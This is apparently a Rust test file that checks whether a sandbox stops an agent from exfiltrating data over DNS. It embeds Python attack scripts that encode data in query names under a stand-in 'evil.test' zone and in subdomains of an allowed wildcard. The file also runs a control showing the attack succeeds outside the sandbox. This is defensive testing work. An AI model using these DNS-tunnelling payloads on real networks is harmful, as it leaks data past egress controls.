//! DNS as an exfiltration channel: a query reaches the operator of the zone.

use std::net::UdpSocket;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use super::attack_range::AttackRange;
use crate::end_to_end::Fixture;
use crate::support::netns::Netns;
use crate::support::process::run;

/// Hand-made queries to any server, of any type.
#[test]
fn dns_queries_to_own_server_are_blocked() {
    let range = AttackRange::new();
    let attack = r"
def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode().split(b'.'))
    return struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + labels + struct.pack('!BHH', 0, kind, 1)
for kind in (1, 16, 28, 65, 10):
    asked = question(mark.hex()[:40] + '.evil.test', kind)
    for port in (53, 5353, 853): sent(lambda: udp().sendto(asked, (there4, port)))
    go(udp(), (there4, 53), asked)
    go(tcp(), (there4, 53), struct.pack('!H', len(asked)) + asked)";
    range.assert_each_group_blocks(attack, &[&["as_connect4", "as_sendmsg4"], &["as_egress"]]);
}

/// The system's name server is on the other end of the veth pair and knows no name. The policy allows a
/// wildcard; the agent encodes data in names below it, in other names, and in queries of other types.
#[test]
fn dns_exfiltration_below_wildcard_is_limited() {
    let netns = Netns::new();
    let capture = crate::support::capture::Capture::start(&netns);
    let server = NameServer::start(&netns);
    let mut fixture = Fixture::new();
    fixture.home.name_server(netns.peer4().into());
    fixture.rules(&[("api.test", fixture.api.port(), ""), ("\"*.wild.test\"", 443, "")]);
    let attack = r"
import os, socket, sys
def ask(name):
    try: socket.getaddrinfo(name, 443, socket.AF_INET)
    except OSError: pass
for turn in range(120):
    ask('n%d.wild.test' % turn)
    ask(os.urandom(30).hex() + '.wild.test')
    ask('.'.join(os.urandom(8).hex() for _ in range(6)) + '.wild.test')
    ask('evil%d.test' % turn)
print('asked')";
    let resolved = |zone: &str| {
        let label: Vec<u8> =
            zone.split('.').flat_map(|label| [&[label.len() as u8], label.as_bytes()].concat()).collect();
        let packets = capture.containing(&label).into_iter().filter(|packet| packet.destination_port == 53);
        packets.map(|packet| packet.payload[12..].to_vec()).collect::<std::collections::BTreeSet<_>>()
    };
    let agent = run(&mut fixture.home.run_agent(["/usr/bin/python3", "-c", attack]));
    assert_eq!(agent.ok(), "asked\n");
    let wild = resolved("wild.test");
    assert!(!wild.is_empty() && wild.len() <= 40, "{} names left", wild.len());
    assert!(wild.iter().all(|question| question.len() < 40), "long names leave");
    assert!(resolved("evil").is_empty());
    let all = capture.packets().into_iter().filter(|packet| packet.destination_port == 53);
    assert!(all.clone().all(|packet| !packet.payload.windows(4).any(|window| window == b"evil")));

    // Control: outside the sandbox every query leaves.
    let mut bare = fixture.home.command_outside(["/usr/bin/python3", "-c", attack]);
    assert_eq!(run(&mut bare).ok(), "asked\n");
    assert!(resolved("wild.test").len() > 300, "the attack does not bite: {}", resolved("wild.test").len());
    drop(server);
}

/// Answers NXDOMAIN to every query.
struct NameServer(Arc<AtomicBool>, Option<std::thread::JoinHandle<()>>);

impl NameServer {
    fn start(netns: &Netns) -> Self {
        let over = Arc::new(AtomicBool::new(false));
        let (stop, handle, address) = (over.clone(), netns.handle(), netns.peer4());
        let (sender, receiver) = std::sync::mpsc::channel();
        let thread = std::thread::spawn(move || {
            handle.enter();
            let socket = UdpSocket::bind((address, 53)).unwrap();
            socket.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
            sender.send(()).unwrap();
            let mut buffer = [0; 1500];
            while !stop.load(Ordering::Relaxed) {
                let Ok((length, from)) = socket.recv_from(&mut buffer) else { continue };
                // The query with the response bits set: NXDOMAIN.
                (buffer[2], buffer[3]) = (0x81, 0x83);
                let _ = socket.send_to(&buffer[..length], from);
            }
        });
        receiver.recv().unwrap();
        Self(over, Some(thread))
    }
}

impl Drop for NameServer {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
        let _ = self.1.take().map(std::thread::JoinHandle::join);
    }
}
